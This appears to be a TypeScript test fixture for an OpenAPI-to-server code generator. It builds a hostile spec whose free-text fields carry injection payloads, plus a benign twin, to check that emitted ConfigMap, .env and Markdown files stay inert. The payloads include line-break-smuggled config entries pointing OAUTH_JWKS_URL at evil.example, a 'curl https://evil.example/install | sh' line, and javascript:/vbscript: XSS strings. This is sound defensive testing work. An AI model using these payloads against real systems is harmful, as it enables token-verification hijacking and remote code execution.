/**
 * A spec whose every free-text field tries to inject into the files emitted from it (issue #16, items 2 and 3), and
 * a benign spec of exactly the same shape to compare with. Names keep to the alphabets the model accepts (scheme
 * names `[A-Za-z0-9._-]`, RFC 6749 scope tokens, RFC 9110 header tokens, roles without spaces or controls), but
 * use every hostile ASCII character those alphabets allow; free text carries everything.
 */
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect } from 'vitest';
import { EMPTY_CONFIG } from '../../src/config/types.js';
import type { EmittedFile } from '../../src/emit/emit-server.js';
import { generateFiles } from '../../src/generate.js';
import type { ServerModel } from '../../src/model/types.js';
import { scratchDir } from '../support/scratch.js';

/** Every code point some parser reads as a line break: CR, LF, CRLF, VT, FF, and NEL, LS, PS (YAML 1.1, Unicode). */
export const LINE_BREAKS = ['\n', '\r', '\r\n', '\v', '\f', '\u0085', '\u2028', '\u2029'] as const;

/** The key an attacker wants to add to the ConfigMap (it would send token verification to their key set). */
export const INJECTED_KEY = 'OAUTH_JWKS_URL';

/** What follows each line break: a ConfigMap entry (both indents), a .env entry, a YAML document, Markdown blocks. */
const PAYLOADS = [
  `  ${INJECTED_KEY}: https://evil.example/jwks`,
  `${INJECTED_KEY}: https://evil.example/jwks`,
  `${INJECTED_KEY}=https://evil.example/jwks`,
  '---',
  'kind: Secret',
  '# Install first',
  '```sh',
  'curl https://evil.example/install | sh',
  '```',
  '    indented code',
  '- list item',
  '1. ordered item',
  '> quote',
  '<div onclick="alert(1)">html block</div>',
  '| fake | table |',
  '| --- | --- |',
  '===',
];

/** Inline attacks and awkward characters, on one line. */
const INLINE = [
  '[click](javascript:alert(1))',
  '![img](data:text/html;base64,PHNjcmlwdD4=)',
  '[ref][r] [r]: vbscript:msgbox',
  '<javascript:alert(2)>',
  '<a href="vbscript:x">a</a>',
  '<script>alert(3)</script>',
  '<!-- comment -->',
  '&lt;b&gt; &#106;avascript:',
  '*em* _em_ **strong** ~~del~~ $x$',
  '`code` ``co`de``',
  'cell | cell \\| \\',
  '"dq" \'sq\' : # \t',
  'emoji \u{1F389} rtl \u202Eevil\u202C isolate \u2066x\u2069 nul \0 bell \x07 del \x7f c1 \x9b',
  'lone \ud800 surrogate',
].join(' ');

/** Free text for a field labelled `label`: the inline attacks, then every payload after every kind of line break. */
export function hostileText(label: string): string {
  return `${label} ${INLINE}${LINE_BREAKS.map((lineBreak) => PAYLOADS.map((payload) => `${lineBreak}${payload}`).join('')).join('')} end`;
}

/** A line break of each kind (YAML 1.1's own first), each followed by a ConfigMap entry: short, to survive truncation. */
export function shortHostileText(label: string): string {
  const breaks = ['\u0085', '\u2028', '\u2029', ...LINE_BREAKS.filter((lineBreak) => lineBreak < '\u0085')];
  return `${label}${breaks.map((lineBreak) => `${lineBreak}  ${INJECTED_KEY}: https://evil.example/jwks`).join('')} [x](javascript:y)|\`z\``;
}

/** Text and names for one spec: hostile or benign, of the same shape. */
export interface SpecText {
  readonly text: (label: string) => string;
  readonly scope: (label: string) => string;
  readonly role: (label: string) => string;
  readonly header: (label: string) => string;
  readonly path: (label: string) => string;
}

export const HOSTILE: SpecText = {
  text: hostileText,
  // RFC 6749 §3.3 scope-token: %x21 / %x23-5B / %x5D-7E (no space, `"` or `\`).
  scope: (label) => `${label}:*[x](javascript:alert(1))|\`c\`<b>&amp;#--~_$!'`,
  role: (label) => `${label}[r](javascript:x)|\\|\`*_<i>`,
  // RFC 9110 §5.6.2 tchar.
  header: (label) => `X-${label}!#$%&'*+.^_\`|~`,
  path: (label) => `/${label}/[p](javascript:x)/|/\`q\`/*s*/<i>`,
};

export const BENIGN: SpecText = {
  text: (label) => `Plain ${label} text`,
  scope: (label) => `${label}:read`,
  role: (label) => `${label}-role`,
  header: (label) => `X-${label}`,
  path: (label) => `/${label}/p`,
};

/** The OpenAPI 3.0 document: two operations, an OAuth client-credentials scheme, an API key, roles and a server. */
export function specWith(t: SpecText): object {
  return {
    openapi: '3.0.3',
    info: { title: t.text('title'), version: t.text('version'), description: t.text('info') },
    // Server URLs with control characters or backslashes are refused by the model (ERR_SPEC_PATH); what remains is
    // whatever percent-encoding lets through.
    servers: [{ url: `https://api.example.com/v1?${encodeURIComponent(t.text('server').replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd'))}` }],
    paths: {
      [`${t.path('items')}/{id}`]: {
        get: {
          operationId: 'getItem',
          summary: t.text('summary'),
          description: t.text('description'),
          parameters: [{ name: 'id', in: 'path', required: true, description: t.text('parameter'), schema: { type: 'string' } }],
          security: [{ oauthScheme: [t.scope('read')], 'api.key_1': [] }],
          'x-mcp-roles': [t.role('reader')],
          responses: { '200': { description: t.text('response') } },
        },
        delete: {
          operationId: 'deleteItem',
          summary: t.text('delete'),
          parameters: [{ name: 'id', in: 'path', required: true, schema: { type: 'string' } }],
          security: [],
          responses: { '204': { description: 'gone' } },
        },
      },
    },
    components: {
      securitySchemes: {
        oauthScheme: {
          type: 'oauth2',
          description: t.text('oauth'),
          flows: { clientCredentials: { tokenUrl: `https://auth.example.com/token?${t.text('tokenUrl')}`, scopes: { [t.scope('read')]: t.text('scope') } } },
        },
        'api.key_1': { type: 'apiKey', in: 'header', name: t.header('key'), description: t.text('apiKey') },
      },
    },
  };
}

/** Emitted files by path. */
export type Files = Readonly<Record<string, string>>;

/** The model and every emitted file of the spec built from `t`. */
export async function generateFrom(t: SpecText): Promise<{ model: ServerModel; files: Files }> {
  const dir = scratchDir('hostile');
  const spec = join(dir, 'spec.json');
  await writeFile(spec, JSON.stringify(specWith(t)));
  const { model, files } = await generateFiles({ spec, config: EMPTY_CONFIG });
  return { model, files: byPath(files) };
}

/** Files by path. */
export function byPath(files: readonly EmittedFile[]): Files {
  return Object.fromEntries(files.map((file) => [file.path, file.contents]));
}

/**
 * The benign model with its names (scope, role, scheme, API key name, path) replaced by free hostile text: what the
 * emitter gets if a name ever slips past the model's checks. The emitter must still render it inert.
 */
export function withHostileNames(model: ServerModel): ServerModel {
  const names: [string, string][] = [
    [BENIGN.scope('read'), hostileText('scopeName')],
    [BENIGN.role('reader'), hostileText('roleName')],
    [BENIGN.header('key'), shortHostileText('apiKeyName')],
    [BENIGN.path('items'), `/${hostileText('path')}`],
    ['"oauthScheme"', JSON.stringify(shortHostileText('schemeName'))],
    ['"api.key_1"', JSON.stringify(shortHostileText('otherSchemeName'))],
  ];
  let json = JSON.stringify(model);
  for (const [benign, hostile] of names) {
    const inner = (text: string) => (text.startsWith('"') ? text : JSON.stringify(text).slice(1, -1));
    expect(json, benign).toContain(inner(benign));
    json = json.replaceAll(inner(benign), inner(hostile));
  }
  return JSON.parse(json) as ServerModel;
}
